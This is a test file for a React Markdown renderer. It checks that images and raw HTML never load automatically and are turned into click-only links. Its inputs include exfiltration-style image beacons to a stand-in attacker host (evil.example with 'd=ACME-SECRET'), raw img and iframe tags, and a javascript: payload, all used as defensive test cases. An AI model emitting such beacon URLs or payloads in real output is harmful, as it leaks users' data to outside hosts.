import { createElement } from 'react';
import { describe, expect, it } from 'vitest';
import type { CitedSource } from '../../shared/knowledge';
import { CitedText } from './Citations';
import { Markdown } from './Markdown';
import { AUTO_LOADING } from './testing/auto-loading';
import { renderSettled } from './testing/render-settled';

/** Rendered on the server: React 19 there also emits `<link rel="preload" as="image">` for any <img>. */
const render = (text: string, sources?: Map<string, CitedSource>) =>
  renderSettled(sources ? createElement(CitedText, { text, sources }) : createElement(Markdown, { text }));

describe('Markdown never loads anything by itself', () => {
  it('turns image Markdown into a link that names the host and loads only on click', async () => {
    const html = await render('Result: ![quarterly numbers](https://evil.example/pixel.png?d=ACME-SECRET)');
    expect(html).not.toMatch(AUTO_LOADING);
    expect(html).toContain('href="https://evil.example/pixel.png?d=ACME-SECRET"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('evil.example');
    expect(html).toContain('quarterly numbers');
  });

  it('turns reference-style, linked and titled images into links too', async () => {
    const html = await render(
      [
        'One ![ref][beacon] two ![collapsed][] three',
        '',
        '[![inner](https://evil.example/inner.png)](https://example.com/page)',
        '',
        '![titled](https://evil.example/t.png "a title")',
        '',
        '[beacon]: https://evil.example/ref.png?d=1',
        '[collapsed]: https://evil.example/collapsed.png',
      ].join('\n'),
    );
    expect(html).not.toMatch(AUTO_LOADING);
    expect(html).toContain('https://evil.example/ref.png?d=1');
    expect(html).toContain('https://evil.example/collapsed.png');
    expect(html).toContain('inner <span class="markdown__image-host">(image: evil.example)</span>');
    expect(html).not.toContain('inner.png');
    // No link inside a link: the outer link wins, the image becomes its text.
    expect(html).not.toMatch(/<a[^>]*>(?:(?!<\/a>)[\s\S])*<a/);
    expect(html).toContain('<a href="https://example.com/page"');
  });

  it('keeps raw HTML as inert text', async () => {
    const html = await render(
      'Look <img src="https://evil.example/h.png"> and <picture><source srcset="https://evil.example/s.png"></picture> <link rel="preload" href="https://evil.example/l"> <iframe src="https://evil.example/f"></iframe>',
    );
    expect(html).not.toMatch(AUTO_LOADING);
  });

  it('drops images whose address is not http(s) instead of linking to it', async () => {
    const html = await render(
      '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) ![y](javascript:alert(1)) ![z](/local.png)',
    );
    expect(html).not.toMatch(AUTO_LOADING);
    expect(html).not.toContain('href="data:');
    expect(html).not.toContain('javascript:');
    expect(html).not.toContain('local.png');
    expect(html).toContain('x');
  });

  it('still renders ordinary links and citations', async () => {
    const source: CitedSource = {
      label: '1',
      kind: 'knowledge',
      title: 'Refunds',
      url: 'https://help.example.com/r',
      text: 'Refunds within 30 days.',
    };
    const html = await render('See [the policy](https://example.com) [1].', new Map([['1', source]]));
    expect(html).toContain('<a href="https://example.com" target="_blank" rel="noopener noreferrer">the policy</a>');
    expect(html).toContain('class="citation citation--knowledge"');
    expect(html).not.toMatch(AUTO_LOADING);
  });
});
